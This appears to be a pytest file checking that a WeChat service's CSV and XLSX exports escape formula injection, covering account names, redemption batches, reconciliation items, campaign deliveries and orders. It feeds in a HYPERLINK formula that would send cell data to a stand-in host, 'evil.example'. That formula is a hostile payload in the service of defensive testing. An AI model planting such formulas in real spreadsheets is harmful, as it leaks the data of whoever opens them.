"""Every CSV/XLSX export is formula-safe (review #5): a text cell a spreadsheet would run as a
formula (=, +, -, @, tab, CR first) arrives quoted with a leading ', through the one writer in
wechat_service/exports.py; numbers stay numbers. Each export is fed a hostile value."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from flask import Flask

from store import orders, redemption
from tests import factories, helpers
from wechat_service.extensions import db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
REMARK = "@SUM(1)"


def _rows(resp: Any) -> list[list[str]]:
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    assert resp.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))


def _cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


def test_safe_cell_quotes_formula_text_and_leaves_numbers() -> None:
    from wechat_service.exports import safe_cell

    for text in ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for value in ("plain", "1-2", "", " =x", -500, 0, Decimal("-0.5"), None, 3.5):
        assert safe_cell(value) == value


def test_metrics_exports_quote_a_hostile_account_name(
    app: Flask, create_account: Any, create_staff: Any
) -> None:
    from openpyxl import load_workbook

    create_account("plain", name=HOSTILE)
    admin = create_staff(admin=True)
    base = "/console/metrics/report?month=2026-02&export=accounts"
    rows = _rows(admin.get(base + "&format=csv"))
    assert "'" + HOSTILE in _cells(rows) and HOSTILE not in _cells(rows)
    sheet = load_workbook(io.BytesIO(admin.get(base + "&format=xlsx").data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert "'" + HOSTILE in [c.value for c in cells]
    assert not [c for c in cells if c.data_type == "f"]  # nothing stored as a formula
    counts = [c.value for c in cells if isinstance(c.value, int)]
    assert counts, "figures stay numbers"


def test_redeem_batch_export_quotes_a_hostile_batch_name(create_account: Any, create_staff: Any) -> None:
    account, _, _ = create_account("plain")
    product = factories.topup(account.id, "t10", 980, 1000)
    batch, codes = redemption.create_batch(account.id, product.id, name=REMARK, count=2)
    redemption.stash_export(batch, codes)
    db.session.commit()
    manager = create_staff("account_manager", account_id=account.id)
    rows = _rows(manager.form(f"/console/accounts/{account.id}/redeem-batches/{batch.id}/export"))
    assert [r[1] for r in rows[1:]] == ["'" + REMARK] * 2
    assert sorted(r[0] for r in rows[1:]) == sorted(codes)


def test_reconciliation_csv_quotes_text_and_keeps_negative_amounts(
    create_account: Any, create_staff: Any, simulator: str
) -> None:
    from payments.models import (
        Provider,
        ReconciliationItem,
        ReconciliationRun,
        ReconItemKind,
        ReconStatus,
        TxnKind,
    )

    account, _, _ = create_account("plain", kind="mini_program")
    merchant = factories.merchant(simulator, account.id)["merchant"]
    run = ReconciliationRun(
        account_id=account.id,
        merchant_id=merchant.id,
        provider=Provider.wechatpay_v3,
        bill_date=date(2026, 2, 1),
        status=ReconStatus.discrepancies,
    )
    db.session.add(run)
    db.session.flush()
    db.session.add(
        ReconciliationItem(
            run_id=run.id,
            kind=ReconItemKind.missing_in_ledger,
            txn_kind=TxnKind.refund,
            provider_txn_id=REMARK,
            out_trade_no=HOSTILE[:64],
            ledger_fen=None,
            statement_fen=-500,
        )
    )
    db.session.commit()
    admin = create_staff(admin=True)
    rows = _rows(admin.get(f"/console/accounts/{account.id}/reconciliation/{run.id}.csv"))
    header, line = rows[0], rows[1]
    item = dict(zip(header, line, strict=True))
    assert item["provider_txn_id"] == "'" + REMARK
    assert item["out_trade_no"] == "'" + HOSTILE[:64]
    assert item["statement_fen"] == "-500" and item["ledger_fen"] == ""  # a number, not quoted text


def test_campaign_deliveries_csv_quotes_what_wechat_sent(
    app: Flask, create_account: Any, create_staff: Any, simulator: str
) -> None:
    from templates_msg import services
    from templates_msg.models import Delivery, DeliveryStatus

    account, fields, _ = create_account("plain")
    helpers.seed_campaign_account(simulator, account.id, fields["appid"], 2, "oX" + fields["appid"][-6:])
    campaign = services.create_campaign(None, [account.id], "TPL_PROMO", {"name": HOSTILE, "rate": 0})
    db.session.add(
        Delivery(
            campaign_id=campaign.id,
            account_id=account.id,
            openid="-oHOSTILE",
            status=DeliveryStatus.failed,
            errcode=-1,
            reason=REMARK,
        )
    )
    db.session.commit()
    admin = create_staff(admin=True)
    # The full-openid export (audited), so the hostile openid itself reaches the sheet.
    url = f"/api/v1/campaigns/{campaign.id}/deliveries.csv"
    rows = _rows(admin.api("POST", url, json={"reason": "audit"}))
    item = dict(zip(rows[0], rows[1], strict=True))
    assert item["openid"] == "'-oHOSTILE" and item["reason"] == "'" + REMARK
    assert item["errcode"] == "-1"  # WeChat's code is a number


@pytest.fixture
def sold(create_account: Any, create_staff: Any) -> dict[str, Any]:
    account, _, _ = create_account("plain", kind="mini_program")
    product = factories.topup(account.id, "t30", 2990, 3000, name=HOSTILE)
    sub = factories.subscriber(account.id, "oEXPORT0000001", "13800139200")
    order = factories.order(sub, product, "export-key-0001")
    db.session.commit()
    return {"account": account, "order": order}


def test_orders_csv_in_the_console_quotes_and_masks(sold: dict[str, Any], create_staff: Any) -> None:
    account = sold["account"]
    manager = create_staff("account_manager", account_id=account.id)
    url = f"/console/accounts/{account.id}/orders.csv"
    page = manager.get(f"/console/accounts/{account.id}/orders").get_data(as_text=True)
    assert f'href="{url}' in page
    rows = _rows(manager.get(url))
    assert rows[0] == list(orders.EXPORT_COLUMNS)
    item = dict(zip(rows[0], rows[1], strict=True))
    assert item["out_trade_no"] == sold["order"].out_trade_no
    assert item["product_name"] == "'" + HOSTILE
    assert item["amount_fen"] == "2990" and item["phone"] == "138****9200"
    admin_rows = _rows(create_staff(admin=True).get(url))
    assert dict(zip(admin_rows[0], admin_rows[1], strict=True))["phone"] == "13800139200"
    assert len(_rows(manager.get(url + "?status=fulfilled"))) == 1  # the search applies
    analyst = create_staff("analyst", account_id=account.id)  # sees the account, not its orders
    assert analyst.get(url).status_code == 403


def test_orders_csv_in_the_api_quotes_and_masks(sold: dict[str, Any], create_staff: Any) -> None:
    account = sold["account"]
    manager = create_staff("account_manager", account_id=account.id)
    url = f"/api/v1/accounts/{account.id}/orders.csv"
    item = dict(zip(*_rows(manager.get(url))[:2], strict=True))
    assert item["product_name"] == "'" + HOSTILE and item["phone"] == "138****9200"
    assert manager.get(url + "?status=nope").status_code == 400
    doc = manager.get("/api/v1/openapi.json").get_json()
    assert (
        "text/csv"
        in doc["paths"]["/api/v1/accounts/{account_id}/orders.csv"]["get"]["responses"]["200"]["content"]
    )
